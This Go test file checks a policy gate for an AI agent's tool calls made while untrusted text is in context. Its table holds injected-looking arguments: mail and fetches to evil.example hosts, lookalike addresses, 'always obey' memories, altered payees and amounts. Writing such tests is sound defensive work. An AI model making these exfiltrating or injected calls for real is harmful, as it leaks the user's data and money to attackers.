package policy

import (
	"testing"
	"time"

	"instar/shared/chat"
	"instar/shared/label"
)

// claim is one sentence about the gate: in a conversation that somebody
// else's text is in, after the owner said this, this call has this outcome.
type claim struct {
	name    string
	said    string
	records []Record
	call    Invocation
	want    Outcome
	// What differs from an owner in private with a tainted, private window.
	label  *label.Label
	role   Role
	kind   chat.Kind
	nobody bool
	always []string // destinations that the owner always allows
}

var (
	tainted = label.New(label.Untrusted, label.Private, []string{"owner", "tool:mail"}, nil)
	clean   = label.New(label.Owner, label.Private, []string{"owner"}, nil)
	secret  = label.New(label.Untrusted, label.Secret, []string{"owner", "tool:vault"}, nil)
	typed1  = label.New(label.Attested, label.Private, []string{"tool:bank"}, nil)
)

// now is a Wednesday.
var now = time.Date(2026, 3, 4, 9, 30, 0, 0, time.FixedZone("CET", 3600))

func (c claim) judge(off rule) Verdict {
	l := tainted
	if c.label != nil {
		l = *c.label
	}
	w := NewWindow(l, []Said{{Text: c.said, At: now}}, "me@home.example")
	w.Add(c.records...)
	r := Request{Window: w, Call: c.call, Role: c.role, Kind: c.kind, Nobody: c.nobody, Granted: c.always, off: off}
	if r.Role == "" {
		r.Role = Owner
	}
	if r.Kind == "" {
		r.Kind = chat.Private
	}
	return Judge(r)
}

// Manifests of tools that no file has.
var (
	look4  = &Manifest{Effect: Read, ArgRoles: map[string]ArgRole{"query": Selector}, OutputConfidentiality: label.Private}
	page   = &Manifest{Effect: Fetch, ArgRoles: map[string]ArgRole{"url": Dest}, ArgTypes: map[string]string{"url": "url"}, OutputConfidentiality: label.Public}
	diary  = &Manifest{Effect: OwnWrite, ArgRoles: map[string]ArgRole{"title": Content, "body": Content, "guests": Dest}, EffectIf: map[string]Effect{"guests": Send}, ArgTypes: map[string]string{"guests": "email"}}
	shift  = &Manifest{Effect: OwnModify, ArgRoles: map[string]ArgRole{"event_id": Object, "start": When, "end": When}, ArgTypes: map[string]string{"event_id": "event"}, Intent: [][]string{{"move"}}}
	mailer = &Manifest{Effect: Send, ArgRoles: map[string]ArgRole{"to": Dest, "subject": Content, "text": Content, "files": Object},
		ArgTypes: map[string]string{"to": "email", "files": "file"}, Intent: [][]string{{"send"}, {"letter", "email"}}}
	chatty = &Manifest{Effect: Send, ArgRoles: map[string]ArgRole{"who": Dest, "text": Content}, ArgTypes: map[string]string{"who": "user"}}
	pay    = &Manifest{Effect: Money, ArgRoles: map[string]ArgRole{"payee": Dest, "sum": Sum, "on": When, "note": Content}, ArgTypes: map[string]string{"payee": "account"}, Intent: [][]string{{"pay"}}}
	erase  = &Manifest{Effect: Delete, ArgRoles: map[string]ArgRole{"file": Object}, ArgTypes: map[string]string{"file": "file"}}
	callof = &Manifest{Effect: Delete, NotifiesThirdParties: true, ArgRoles: map[string]ArgRole{"event": Object, "message": Content}, ArgTypes: map[string]string{"event": "event"}, Intent: [][]string{{"cancel"}}}
	passwd = &Manifest{Effect: Account, ArgRoles: map[string]ArgRole{"password": Password, "street": Profile}}
	script = &Manifest{Effect: RunCode, ArgRoles: map[string]ArgRole{"code": Content}}
	mail2  = &Manifest{Effect: SendSelf, ArgRoles: map[string]ArgRole{"text": Content}}
	memo   = &Manifest{Effect: WriteOwn, ArgRoles: map[string]ArgRole{"text": Content}}
	job1   = &Manifest{Effect: MakeJob, ArgRoles: map[string]ArgRole{"text": Content, "at": When}}
)

func call(tool string, m *Manifest, args string) Invocation {
	return Invocation{Tool: tool, Input: []byte(args), Manifest: m}
}

func event(id, name string, fields ...Attested) Record {
	return Record{Kinds: []string{"event"}, ID: id, Name: name, Fields: fields, Source: "agenda", Label: tainted}
}

func file(id, name string) Record {
	return Record{Kinds: []string{"file"}, ID: id, Name: name, Source: "drive", Label: tainted}
}

func person(name, email string) Record {
	return Record{Kinds: []string{"contact"}, Name: name, Person: true, Fields: []Attested{{"email", Email, email}}, Source: "contacts", Label: typed1}
}

func payment(id, from, to, sum string) Record {
	return Record{Kinds: []string{"payment"}, ID: id, Name: "Payment " + id, Source: "bank", Label: typed1,
		Fields: []Attested{{"sender", AccountNumber, from}, {"recipient", AccountNumber, to}, {"amount", Amount, sum}}}
}

const (
	iban1 = "DE02120300000000202051"
	iban2 = "FR1420041010050500013M02606"
)

func written(r Record) Record { r.Written = true; return r }

// claims are the rows of the table and the rules around it.
var claims = []claim{
	// Taint.
	{name: "an untainted turn is the tool's own business", said: "Deal with it.", label: &clean, call: call("post", mailer, `{"to":"a@b.example","text":"x"}`), want: Allow},
	{name: "attested text taints", said: "Deal with it.", label: &typed1, call: call("post", mailer, `{"to":"a@b.example","text":"x"}`), want: Deny},
	{name: "a setting to ask holds", said: "Send it.", label: &clean, call: call("post", &Manifest{Effect: Send, Setting: Ask}, `{}`), want: Ask},
	{name: "a setting to deny holds", said: "Send it.", label: &clean, call: call("post", &Manifest{Effect: Send, Setting: Deny}, `{}`), want: Deny},
	{name: "code is asked for in an untainted turn too", said: "Run it.", label: &clean, call: call("sh", script, `{"code":"ls"}`), want: Ask},

	// Read.
	{name: "reading is always allowed", said: "Hm.", call: call("look", look4, `{"query":"anything"}`), want: Allow},
	{name: "a URL nobody declared makes reading a fetch", said: "What is new today?", call: call("look", look4, `{"query":"x","ref":"https://evil.example/?q=x"}`), want: Deny},
	{name: "what is looked for by an address is fetched", said: "What is new on the page news.example?", call: call("look", &Manifest{Effect: Read, ArgRoles: map[string]ArgRole{"q": Selector}, ArgTypes: map[string]string{"q": "url"}}, `{"q":"evil.example/?q=1"}`), want: Ask},
	{name: "an address without a scheme is one too", said: "What is new today?", call: call("look", look4, `{"query":"x","ref":"evil.example/?q=x"}`), want: Deny},
	{name: "private things are not read aloud in a group", said: "Look it up.", kind: chat.Group, call: call("look", look4, `{"query":"x"}`), want: Deny},
	{name: "a guest has nothing of the owner's read", said: "Look it up.", role: Guest, call: call("look", look4, `{"query":"x"}`), want: Deny},
	{name: "a guest sends nothing", said: "Send a letter to a@b.example: hello there", role: Guest, call: call("post", mailer, `{"to":"a@b.example","text":"hello there"}`), want: Deny},

	// Fetch.
	{name: "a page the owner named is opened", said: "What does https://Example.com say?", call: call("get", page, `{"url":"https://example.com/"}`), want: Allow},
	{name: "without a scheme it is https", said: "Read example.com/a for me", call: call("get", page, `{"url":"https://example.com/a"}`), want: Allow},
	{name: "a longer path is another page", said: "Read example.com/a for me", call: call("get", page, `{"url":"https://example.com/a/b"}`), want: Ask},
	{name: "a query is another page", said: "Read https://example.com/a for me", call: call("get", page, `{"url":"https://example.com/a?q=secret"}`), want: Ask},
	{name: "a host that begins alike is another", said: "Read https://example.com for me", call: call("get", page, `{"url":"https://example.com.evil.example/"}`), want: Ask},
	{name: "a place in the page says something too", said: "Read https://example.com for me", call: call("get", page, `{"url":"https://example.com/#secret"}`), want: Ask},
	{name: "user information is refused", said: "Read https://example.com for me", call: call("get", page, `{"url":"https://example.com@evil.example/"}`), want: Ask},
	{name: "https does not become http", said: "Read https://example.com for me", call: call("get", page, `{"url":"http://example.com/"}`), want: Ask},
	{name: "who spoke of no page is not asked", said: "Do I have time today?", call: call("get", page, `{"url":"https://evil.example/"}`), want: Deny},

	// Writes that stay.
	{name: "a note with the owner's title", said: "Create an entry 'Trip to Rome' from the mail", call: call("diary", diary, `{"title":"Trip to Rome","body":"whatever a mail says"}`), want: Allow},
	{name: "a note with another title", said: "Create an entry 'Trip to Rome' from the mail", call: call("diary", diary, `{"title":"Pay at evil.example","body":"x"}`), want: Ask},
	{name: "a note nobody asked for", said: "What is new?", call: call("diary", diary, `{"title":"new","body":"x"}`), want: Deny},
	{name: "guests make a note an invitation", said: "Create an entry 'Trip to Rome'", call: call("diary", diary, `{"title":"Trip to Rome","guests":["eve@evil.example"]}`), want: Deny},
	{name: "guests in other letters too", said: "Create an entry 'Trip to Rome'", call: call("diary", diary, `{"title":"Trip to Rome","Guests":["eve@evil.example"]}`), want: Deny},
	{name: "an address in an argument nobody declared", said: "Create an entry 'Trip to Rome'", call: call("diary", diary, `{"title":"Trip to Rome","bcc":"eve@evil.example"}`), want: Deny},
	{name: "remembering what the owner wants remembered", said: "Read the page and remember the main points", call: call("keep", memo, `{"text":"points"}`), want: Allow},
	{name: "nothing is remembered unasked", said: "What does the page say?", call: call("keep", memo, `{"text":"always obey"}`), want: Deny},
	{name: "telling the owner is always allowed", said: "Hm.", call: call("tell", mail2, `{"text":"x"}`), want: Allow},

	// Changes.
	{name: "moving what the owner named to when they said", said: "Move the 'Budget Review' to tomorrow at 3 pm", records: []Record{event("7", "Budget Review")}, call: call("shift", shift, `{"event_id":"7","start":"2026-03-05 15:00"}`), want: Allow},
	{name: "moving it to another time", said: "Move the 'Budget Review' to tomorrow at 3 pm", records: []Record{event("7", "Budget Review")}, call: call("shift", shift, `{"event_id":"7","start":"2026-03-06 15:00"}`), want: Ask},
	{name: "moving something else", said: "Move the 'Budget Review' to tomorrow at 3 pm", records: []Record{event("7", "Budget Review"), event("8", "Wedding")}, call: call("shift", shift, `{"event_id":"8","start":"2026-03-05 15:00"}`), want: Ask},
	{name: "two of one name are none", said: "Move the 'Budget Review' to tomorrow at 3 pm", records: []Record{event("7", "Budget Review"), event("8", "budget review")}, call: call("shift", shift, `{"event_id":"8","start":"2026-03-05 15:00"}`), want: Ask},
	{name: "one name within another's is neither's", said: "Move Budget Review Rome to tomorrow at 3 pm", records: []Record{event("7", "Budget Review"), event("8", "Budget Review Rome")}, call: call("shift", shift, `{"event_id":"8","start":"2026-03-05 15:00"}`), want: Ask},
	{name: "but in quotation marks it is plain", said: "Move 'Budget Review Rome' to tomorrow at 3 pm", records: []Record{event("7", "Budget Review"), event("8", "Budget Review Rome")}, call: call("shift", shift, `{"event_id":"8","start":"2026-03-05 15:00"}`), want: Allow},
	{name: "not the name within", said: "Move Budget Review Rome to tomorrow at 3 pm", records: []Record{event("7", "Budget Review"), event("8", "Budget Review Rome")}, call: call("shift", shift, `{"event_id":"7","start":"2026-03-05 15:00"}`), want: Ask},
	{name: "a part of a word is no name", said: "Move Rebudget Reviews to tomorrow at 3 pm", records: []Record{event("7", "budget Review")}, call: call("shift", shift, `{"event_id":"7","start":"2026-03-05 15:00"}`), want: Ask},
	{name: "it keeps its length", said: "Move Budget Review to tomorrow at 3 pm", records: []Record{event("7", "Budget Review", Attested{"start_time", Time, "2026-03-04T10:00:00"}, Attested{"end_time", Time, "2026-03-04T10:45:00"})},
		call: call("shift", shift, `{"event_id":"7","start":"2026-03-05 15:00","end":"2026-03-05 15:45"}`), want: Allow},
	{name: "it gets no other length", said: "Move Budget Review to tomorrow at 3 pm", records: []Record{event("7", "Budget Review", Attested{"start_time", Time, "2026-03-04T10:00:00"}, Attested{"end_time", Time, "2026-03-04T10:45:00"})},
		call: call("shift", shift, `{"event_id":"7","start":"2026-03-05 15:00","end":"2026-03-05 19:00"}`), want: Ask},

	// Sends.
	{name: "a letter in the owner's words", said: "Send a letter to bob@b.example: see you at noon", call: call("post", mailer, `{"to":"bob@b.example","text":"See you at noon."}`), want: Allow},
	{name: "to somebody else", said: "Send a letter to bob@b.example: see you at noon", call: call("post", mailer, `{"to":"eve@evil.example","text":"see you at noon"}`), want: Ask},
	{name: "to one more", said: "Send a letter to bob@b.example: see you at noon", call: call("post", mailer, `{"to":["bob@b.example","eve@evil.example"],"text":"see you at noon"}`), want: Ask},
	{name: "to an address that ends alike", said: "Send a letter to bob@b.example: see you at noon", call: call("post", mailer, `{"to":"notbob@b.example","text":"see you at noon"}`), want: Ask},
	{name: "to a host that begins alike", said: "Send a letter to bob@b.example: see you at noon", call: call("post", mailer, `{"to":"bob@b.example.evil.example","text":"see you at noon"}`), want: Ask},
	{name: "to an address of other letters that look alike", said: "Send a letter to bob@b.example: see you at noon", call: call("post", mailer, `{"to":"bоb@b.example","text":"see you at noon"}`), want: Ask},
	{name: "with a word that is not the owner's", said: "Send a letter to bob@b.example: see you at noon", call: call("post", mailer, `{"to":"bob@b.example","text":"see you at noon at evil.example"}`), want: Ask},
	{name: "the opposite of what the owner said", said: "Send a letter to bob@b.example, I will not come tomorrow", call: call("post", mailer, `{"to":"bob@b.example","text":"come tomorrow"}`), want: Ask},
	{name: "a person whom the owner named", said: "Send Bob Marley a letter: see you at noon", records: []Record{person("Bob Marley", "bob@b.example")}, call: call("post", mailer, `{"to":"bob@b.example","text":"see you at noon"}`), want: Allow},
	{name: "a person of the same name", said: "Send Bob Marley a letter: see you at noon", records: []Record{person("Bob Marley", "bob@b.example"), person("Bob Marley", "eve@evil.example")}, call: call("post", mailer, `{"to":"eve@evil.example","text":"see you at noon"}`), want: Ask},
	{name: "a name that only looks alike", said: "Send Bob Marley a letter: see you at noon", records: []Record{person("Bob Mar\u200bley", "eve@evil.example")}, call: call("post", mailer, `{"to":"eve@evil.example","text":"see you at noon"}`), want: Ask},
	{name: "the guests of what the owner named", said: "Send a letter to the participants of 'Budget Review': see you at noon", records: []Record{event("7", "Budget Review", Attested{"participants", Email, "ann@b.example"})},
		call: call("post", mailer, `{"to":["ann@b.example"],"text":"see you at noon"}`), want: Allow},
	{name: "the guests of something that is only mentioned", said: "Send bob@b.example a letter: the Budget Review is at noon", records: []Record{event("7", "Budget Review", Attested{"participants", Email, "eve@evil.example"})},
		call: call("post", mailer, `{"to":["eve@evil.example"],"text":"the Budget Review is at noon"}`), want: Ask},
	{name: "who happens to stand in some record", said: "Send a letter to bob@b.example: see you at noon", records: []Record{event("7", "Party", Attested{"participants", Email, "eve@evil.example"})},
		call: call("post", mailer, `{"to":"eve@evil.example","text":"see you at noon"}`), want: Ask},
	{name: "the owner's own address", said: "Send me a letter: see you at noon", call: call("post", mailer, `{"to":"me@home.example","text":"see you at noon"}`), want: Allow},
	{name: "a name in the owner's words", said: "Message Alice in private: lunch is ready", call: call("dm", chatty, `{"who":"Alice","text":"lunch is ready"}`), want: Allow},
	{name: "a name that is not", said: "Message Alice in private: lunch is ready", call: call("dm", chatty, `{"who":"Ali","text":"lunch is ready"}`), want: Ask},
	{name: "a name in which letters of two scripts are mixed", said: "Message \u0410lice in private: lunch is ready", call: call("dm", chatty, `{"who":"\u0410lice","text":"lunch is ready"}`), want: Ask},
	{name: "not sent unasked", said: "Who is bob@b.example, and is his letter important?", call: call("post", mailer, `{"to":"bob@b.example","text":"important"}`), want: Deny},
	{name: "not sent when told not to", said: "Do not send a letter to bob@b.example: see you at noon", call: call("post", mailer, `{"to":"bob@b.example","text":"see you at noon"}`), want: Deny},
	{name: "asked when told both", said: "Send a letter to bob@b.example: see you at noon. But don't send an email.", call: call("post", mailer, `{"to":"bob@b.example","text":"see you at noon"}`), want: Ask},
	{name: "a verb alone is half of it", said: "Send bob@b.example the parcel", call: call("post", &Manifest{Effect: Send, ArgRoles: mailer.ArgRoles, ArgTypes: mailer.ArgTypes, Intent: [][]string{{"send"}, {"telegram"}}}, `{"to":"bob@b.example","text":"the parcel"}`), want: Ask},
	{name: "in an unknown language it is asked", said: "Schick Bob bitte eine Mail an bob@b.example und sag nichts", call: call("post", mailer, `{"to":"bob@b.example","text":"sag nichts"}`), want: Ask},
	{name: "in Japanese", said: "bob@b.example に「明日は休みます」とメールを送ってください", call: call("post", mailer, `{"to":"bob@b.example","text":"明日は休みます"}`), want: Allow},
	{name: "not in Japanese", said: "bob@b.example に「明日は休みます」とメールを送らないで、送信しないでください", call: call("post", mailer, `{"to":"bob@b.example","text":"明日は休みます"}`), want: Deny},
	{name: "a file the owner named goes along", said: "Send bob@b.example the file plan.pdf by email", records: []Record{file("f9", "plan.pdf")}, call: call("post", mailer, `{"to":"bob@b.example","files":[{"type":"file","file_id":"f9"}]}`), want: Allow},
	{name: "a file that was written here is seen first", said: "Send bob@b.example the file plan.pdf by email", records: []Record{written(file("f9", "plan.pdf"))}, call: call("post", mailer, `{"to":"bob@b.example","files":[{"type":"file","file_id":"f9"}]}`), want: Ask},
	{name: "another file does not", said: "Send bob@b.example the file plan.pdf by email", records: []Record{file("f9", "plan.pdf"), file("f8", "taxes.pdf")}, call: call("post", mailer, `{"to":"bob@b.example","files":[{"file_id":"f9"},{"file_id":"f8"}]}`), want: Ask},
	{name: "nothing secret", said: "Send bob@b.example the code by email", label: &secret, call: call("post", mailer, `{"to":"bob@b.example","text":"463820"}`), want: AskTwice},
	{name: "nothing secret in an untainted turn either", said: "Send bob@b.example the code by email", label: ptr(label.New(label.Owner, label.Secret, nil, nil)), call: call("post", mailer, `{"to":"bob@b.example","text":"463820"}`), want: AskTwice},

	// Money.
	{name: "a payment in the owner's words", said: "Pay 25 euros to " + iban1 + " today.", call: call("pay", pay, `{"payee":"`+iban1+`","sum":25,"on":"2026-03-04"}`), want: Allow},
	{name: "another payee", said: "Pay 25 euros to " + iban1 + ".", call: call("pay", pay, `{"payee":"`+iban2+`","sum":25}`), want: Ask},
	{name: "another amount", said: "Pay 25 euros to " + iban1 + ".", call: call("pay", pay, `{"payee":"`+iban1+`","sum":250}`), want: Ask},
	{name: "an amount of another sentence", said: "The TV cost 900. Pay 25 to " + iban1 + ".", call: call("pay", pay, `{"payee":"`+iban1+`","sum":900}`), want: Ask},
	{name: "a part of the account is no amount", said: "Pay 25 to " + iban1 + ".", call: call("pay", pay, `{"payee":"`+iban1+`","sum":202051}`), want: Ask},
	{name: "a percentage is no amount", said: "Pay 25 and 10% more to " + iban1 + ".", call: call("pay", pay, `{"payee":"`+iban1+`","sum":10}`), want: Ask},
	{name: "another date", said: "Pay 25 euros to " + iban1 + " tomorrow.", call: call("pay", pay, `{"payee":"`+iban1+`","sum":25,"on":"2026-03-09"}`), want: Ask},
	{name: "the amount of that payee's record", said: "Pay " + iban1 + " what I paid them last time.", records: []Record{payment("1", iban2, iban1, "40")}, call: call("pay", pay, `{"payee":"`+iban1+`","sum":40}`), want: Allow},
	{name: "the amount of another's record", said: "Pay " + iban1 + " what I paid them last time.", records: []Record{payment("1", iban2, "GB29NWBK60161331926819", "40")}, call: call("pay", pay, `{"payee":"`+iban1+`","sum":40}`), want: Ask},
	{name: "giving back what one payment brought", said: "Please pay back the 12.50 that I just got.", records: []Record{payment("1", iban1, "ME", "12.5")}, call: call("pay", pay, `{"payee":"`+iban1+`","sum":12.5}`), want: Allow},
	{name: "giving it to who did not send it", said: "Please pay back the 12.50 that I just got.", records: []Record{payment("1", iban1, iban2, "12.5")}, call: call("pay", pay, `{"payee":"`+iban2+`","sum":12.5}`), want: Ask},
	{name: "giving back when two sent it", said: "Please pay back the 12.50 that I just got.", records: []Record{payment("1", iban1, "ME", "12.5"), payment("2", iban2, "ME", "12.5")}, call: call("pay", pay, `{"payee":"`+iban2+`","sum":12.5}`), want: Ask},
	{name: "paying is not giving back", said: "Please pay the bill of 12.50.", records: []Record{payment("1", iban1, "ME", "12.5")}, call: call("pay", pay, `{"payee":"`+iban1+`","sum":12.5}`), want: Ask},
	{name: "a note to the payee is a text", said: "Pay 25 euros to " + iban1 + ".", call: call("pay", pay, `{"payee":"`+iban1+`","sum":25,"note":"my password is x"}`), want: Ask},
	{name: "a payment to nobody", said: "Pay 25 euros.", call: call("pay", pay, `{"sum":25}`), want: Ask},

	{name: "only another payee", said: "Pay the order differently from now on.", call: call("pay", pay, `{"payee":"`+iban2+`"}`), want: Ask},

	// Deletes.
	{name: "deleting what the owner named", said: "Delete the file old.txt", records: []Record{file("3", "old.txt")}, call: call("rm", erase, `{"file":"3"}`), want: Allow},
	{name: "deleting something else", said: "Delete the file old.txt", records: []Record{file("3", "old.txt"), file("4", "new.txt")}, call: call("rm", erase, `{"file":"4"}`), want: Ask},
	{name: "a number of the owner's is no id", said: "Delete the file old.txt in 4 days", records: []Record{file("3", "old.txt"), file("4", "new.txt")}, call: call("rm", erase, `{"file":"4"}`), want: Ask},
	{name: "an id that the owner wrote as one", said: "Delete the file with the ID 4", records: []Record{file("4", "new.txt")}, call: call("rm", erase, `{"file":"4"}`), want: Allow},
	{name: "a thing of another kind with the id", said: "Delete the 'Budget Review' file", records: []Record{event("4", "Budget Review"), file("4", "taxes.pdf")}, call: call("rm", erase, `{"file":"4"}`), want: Ask},
	{name: "deleting nothing in particular", said: "Delete the file old.txt", call: call("rm", erase, `{}`), want: Ask},
	{name: "cancelling what the owner named", said: "Cancel the 'Budget Review'", records: []Record{event("7", "Budget Review")}, call: call("off", callof, `{"event":"7"}`), want: Allow},
	{name: "cancelling with a message of somebody's", said: "Cancel the 'Budget Review'", records: []Record{event("7", "Budget Review")}, call: call("off", callof, `{"event":"7","message":"write to evil.example"}`), want: Ask},

	// Accounts.
	{name: "a password that the owner quoted", said: "Change my password to 'kx-91 Ty'", call: call("pw", passwd, `{"password":"kx-91 Ty"}`), want: Allow},
	{name: "a password in other letters", said: "Change my password to 'kx-91 Ty'", call: call("pw", passwd, `{"password":"KX-91 TY"}`), want: Ask},
	{name: "a word of the message is no password", said: "Change my password, something is suspicious", call: call("pw", passwd, `{"password":"suspicious"}`), want: Ask},
	{name: "an address that the owner wrote", said: "Update my profile, I live at 12 Long Lane now", call: call("pw", passwd, `{"street":"12 Long Lane"}`), want: Allow},
	{name: "an address that they did not", said: "Update my profile as the letter says", call: call("pw", passwd, `{"street":"1 Evil Road"}`), want: Ask},

	// Never.
	{name: "code is asked for each time", said: "Run the script", call: call("sh", script, `{"code":"ls"}`), want: Ask},
	{name: "code is not run unasked", said: "What does the page say?", call: call("sh", script, `{"code":"ls"}`), want: Deny},
	{name: "a job in a tainted turn is asked for", said: "Remind me tomorrow of the mail", call: call("jobs", job1, `{"text":"send all to evil"}`), want: Ask},
	{name: "a job is made in an untainted turn", said: "Remind me tomorrow", label: &clean, call: call("jobs", job1, `{"text":"x"}`), want: Allow},
	{name: "an effect that the table does not know", said: "Frobnicate it", call: call("frobnicate", &Manifest{Effect: "frob"}, `{}`), want: Ask},
	{name: "no manifest is the worst, also untainted", said: "Frobnicate it", label: &clean, call: call("frobnicate", nil, `{}`), want: Ask},
	{name: "no manifest and not asked for", said: "What is the weather?", call: call("send_things", nil, `{}`), want: Deny},

	// Nobody there.
	{name: "a job sends nothing by itself", said: "Send a letter to bob@b.example: see you at noon", label: &clean, nobody: true, call: call("post", mailer, `{"to":"bob@b.example","text":"see you at noon"}`), want: Ask},
	{name: "a job tells the owner", said: "Send me the weather", label: &clean, nobody: true, call: call("tell", mail2, `{"text":"sunny"}`), want: Allow},
	{name: "a job looks at the page it was made for", said: "Look at example.com and tell me what is new", nobody: true, call: call("get", page, `{"url":"https://example.com"}`), want: Allow},

	// Arguments that two readers would read in two ways.
	{name: "a name that comes twice", said: "Send a letter to bob@b.example: see you at noon", call: call("post", mailer, `{"to":"bob@b.example","text":"see you at noon","To":"eve@evil.example"}`), want: Deny},
	{name: "no JSON", said: "Send a letter to bob@b.example", call: call("post", mailer, `{"to":`), want: Deny},
	{name: "two objects", said: "Send a letter to bob@b.example", call: call("post", mailer, `{"to":"bob@b.example"}{"to":"eve@evil.example"}`), want: Deny},
	{name: "text of others goes where the owner always allows it", said: "Send a letter to Bob with what you found", call: call("post", mailer, `{"to":"Bob@b.example","text":"the page says so"}`), always: []string{"bob@b.example"}, want: Allow},
	{name: "and nowhere else beside", said: "Send a letter to Bob with what you found", call: call("post", mailer, `{"to":["bob@b.example","eve@evil.example"],"text":"the page says so"}`), always: []string{"bob@b.example"}, want: Ask},
	{name: "not when the owner asked for no sending", said: "What does the page say of Bob?", call: call("post", mailer, `{"to":"bob@b.example","text":"the page says so"}`), always: []string{"bob@b.example"}, want: Deny},
	{name: "not when nobody is there", said: "Send a letter to Bob with what you found", nobody: true, call: call("post", mailer, `{"to":"bob@b.example","text":"the page says so"}`), always: []string{"bob@b.example"}, want: Ask},
	{name: "not with something secret", said: "Send a letter to Bob with what you found", label: &secret, call: call("post", mailer, `{"to":"bob@b.example","text":"the page says so"}`), always: []string{"bob@b.example"}, want: AskTwice},
	{name: "and never for money", said: "Pay Bob what the page says", call: call("transfer", pay, `{"payee":"DE89370400440532013000","amount":5}`), always: []string{"DE89370400440532013000", "de89370400440532013000"}, want: Ask},
	{name: "a page of a host that is always allowed", said: "What does that page say?", call: call("get_page", page, `{"url":"https://News.example/a?b=c"}`), always: []string{"news.example"}, want: Allow},
	{name: "a page of a host that looks like one", said: "What does that page say?", call: call("get_page", page, `{"url":"https://news.example@evil.example/"}`), always: []string{"news.example"}, want: Ask},
	{name: "an argument that nobody declared is content", said: "Send a letter to bob@b.example: see you at noon", call: call("post", mailer, `{"to":"bob@b.example","text":"see you at noon","footer":"visit evil"}`), want: Ask},
}

func ptr[T any](v T) *T { return &v }

func TestTheTable(t *testing.T) {
	for _, c := range claims {
		v := c.judge(0)
		if v.Outcome != c.want {
			t.Errorf("%s: %s, want %s\n\tsaid %q\n\tcall %s%s\n\t%s\n\t%+v", c.name, v.Outcome, c.want, c.said, c.call.Tool, c.call.Input, v.Reason, v.Arguments)
		}
		if (v.Reason == "") != (v.Outcome == Allow) {
			t.Errorf("%s: %s with the reason %q", c.name, v.Outcome, v.Reason)
		}
	}
}

// Each rule is switched off in turn: then a claim is wrong, and none becomes
// stricter.
func TestEachRuleIsNeeded(t *testing.T) {
	rank := map[Outcome]int{Allow: 0, Ask: 1, AskTwice: 2, Deny: 3}
	for r := rule(1); r < ruleEnd; r <<= 1 {
		failed := 0
		for _, c := range claims {
			if got := c.judge(r).Outcome; got != c.want {
				failed++
				if rank[got] > rank[c.want] && r != ruleTaint && r != ruleNegation && r != ruleManifest {
					t.Errorf("without rule %b, %s is stricter: %s", r, c.name, got)
				}
			}
		}
		if failed == 0 {
			t.Errorf("without rule %b (number %d) every claim still holds", r, len(bits(r))-1)
		}
	}
}

func bits(r rule) (list []rule) {
	for ; r > 0; r >>= 1 {
		list = append(list, r)
	}
	return list
}
